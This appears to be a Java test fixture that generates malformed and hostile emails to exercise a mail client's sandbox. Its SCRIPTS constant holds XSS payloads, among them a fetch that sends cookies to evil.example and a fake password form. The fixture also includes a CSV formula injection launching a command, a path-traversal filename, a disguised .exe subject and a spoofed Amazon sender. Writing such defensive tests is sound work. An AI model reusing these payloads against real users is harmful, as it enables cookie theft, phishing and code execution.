package com.opsided.sandbox.google.mail;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.function.UnaryOperator;

/**
 * Mail that breaks a careless reader: hostile HTML, wrong charsets, missing and monstrous
 * headers.
 */
final class OddMail {

	private static final String FROM = "Odd <odd@hostile.example>";

	private static final String SCRIPTS = """
			<html><body onload="fetch('https://evil.example/' + document.cookie)">
			<script>alert(document.domain)</script><iframe src="javascript:alert(1)"></iframe>
			<img src=x onerror="alert(2)"><a href="javascript:alert(3)">Claim your reimbursement</a>
			<svg><script>alert(4)</script></svg><form action="https://evil.example"><input name="password"></form>
			<img src="https://track.example/pixel.gif?id=42" width="1" height="1" style="display:none">
			<style>@import url('https://evil.example/x.css');</style><base href="https://evil.example/">
			</body></html>""";

	private final List<Draft> mails = new ArrayList<>();

	private Instant next;

	private OddMail(Instant last) {
		this.next = last;
	}

	/** All of it, a day apart. */
	static List<Draft> until(Instant last) {
		OddMail odd = new OddMail(last);
		odd.contents();
		odd.charsets();
		odd.headers();
		return List.copyOf(odd.mails);
	}

	private void contents() {
		add("Hostile HTML", MailPart.html(SCRIPTS));
		add("Hostile HTML beside text",
				MailPart.multi("alternative", MailPart.text("Plain and harmless"), MailPart.html(SCRIPTS)));
		add("A picture that is a script", MailPart.multi("related", MailPart.html("<img src=\"cid:one\">"),
				MailPart.attachment("image/svg+xml", "../../etc/one.svg", SCRIPTS.getBytes(StandardCharsets.UTF_8))));
		add("Null bytes", MailPart.text("before\0after \u0001\u001b[31m"));
		add("Nothing at all", MailPart.bytes("text/plain", "", new byte[0]));
		add("Very deep", deep(20));
		add("Large", MailPart.text("0123456789abcdef\n".repeat(20_000)));
		add("Formulas", MailPart.multi("mixed", MailPart.text("=HYPERLINK(\"https://evil.example\")"),
				MailPart.attachment("text/csv", "=cmd|' /C calc'!A0.csv", "=1+1".getBytes(StandardCharsets.UTF_8))));
	}

	private void charsets() {
		add("Café in Latin 1", MailPart.text("plain", "Café crème, 5 £", StandardCharsets.ISO_8859_1, "iso-8859-1"));
		add("Angebot in Windows 1252",
				MailPart.text("plain", "“Größe” – 5 €", Charset.forName("windows-1252"), "windows-1252"));
		add("返金のお知らせ", MailPart.text("plain", "返金が完了しました。", Charset.forName("ISO-2022-JP"), "iso-2022-jp"));
		add("Says UTF-8 and is not", MailPart.text("plain", "Größe", StandardCharsets.ISO_8859_1, "utf-8"));
		add("A charset that nobody knows", MailPart.text("plain", "Hello", StandardCharsets.US_ASCII, "x-unknown-9"));
		add("No charset at all", MailPart.text("plain", "Grüße", StandardCharsets.UTF_8, ""));
		add("Emoji 📦💸", MailPart.text("📦 → 💸 \uD83D"));
	}

	private void headers() {
		add("No date", (draft) -> draft.without("Date"));
		add("No subject", (draft) -> draft.without("Subject"));
		add("No sender", (draft) -> draft.without("From"));
		add("Two senders", (draft) -> draft.with(new Header("From", "Amazon <payments@amazon.com>")));
		add("A date of another kind",
				(draft) -> draft.without("Date").with(new Header("Date", "Wed, 32 Foo 20026 25:61:00 +9999")));
		add("A subject without end " + "Re: ".repeat(5_000), MailPart.text("See above"));
		add("=?utf-8?B?UmVpbWJ1cnNlbWVudA==?= =?utf-8?Q?=F0=9F=92=B8?=", MailPart.text("An encoded subject"));
		add("Turned around \u202Egpj.exe", MailPart.text("Reads the other way"));
		add("<script>alert('subject')</script>", MailPart.text("A subject of markup"));
	}

	private void add(String subject, MailPart body) {
		this.mails.add(new Draft(step(), FROM, subject, body, "INBOX", "UNREAD"));
	}

	private void add(String subject, UnaryOperator<Draft> change) {
		this.mails.add(change.apply(new Draft(step(), FROM, subject, MailPart.text(subject), "INBOX")));
	}

	private Instant step() {
		this.next = this.next.minus(Duration.ofDays(1));
		return this.next;
	}

	private static MailPart deep(int levels) {
		return (levels == 0) ? MailPart.text("At the bottom") : MailPart.multi("mixed", deep(levels - 1));
	}

}
